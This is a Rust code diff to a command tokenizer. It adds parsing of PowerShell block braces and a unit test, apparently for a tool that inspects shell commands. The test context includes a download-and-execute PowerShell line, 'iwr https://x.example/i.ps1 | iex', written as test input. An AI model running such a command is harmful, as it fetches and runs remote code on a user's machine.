@@ -47,6 +47,12 @@ pub(super) fn commands(source: &str, line: &Located, dialect: Dialect) -> Vec<(V
             (None, ';') => dialect == Dialect::PowerShell,
             (None, '(') if dialect == Dialect::PowerShell && start.is_none() => true,
             (None, ')') if dialect == Dialect::PowerShell => true,
+            // A block's braces; those of `${name}` belong to the word.
+            (None, '{') if dialect == Dialect::PowerShell && start.is_none() => true,
+            (None, '}') if dialect == Dialect::PowerShell => {
+                let word = start.and_then(|from| text.get(from..at)).unwrap_or_default();
+                word.matches("${").count() <= word.matches('}').count()
+            }
             (None, c) if c.is_whitespace() => {
                 finish(&mut start, at, &mut words);
                 continue;
@@ -112,6 +118,7 @@ mod tests {
             run("iwr https://x.example/i.ps1 | iex", Dialect::PowerShell),
             ["iwr·https://x.example/i.ps1|", "iex"]
         );
+        assert_eq!(run("& {npx -y t ${env:A}}", Dialect::PowerShell), ["npx·-y·t·${env:A}"]);
         assert_eq!(run("", Dialect::Cmd), Vec::<String>::new());
         assert_eq!(decode_command("bgBwAHgA").as_deref(), Some("npx"));
         assert_eq!(decode_command("bg"), None);
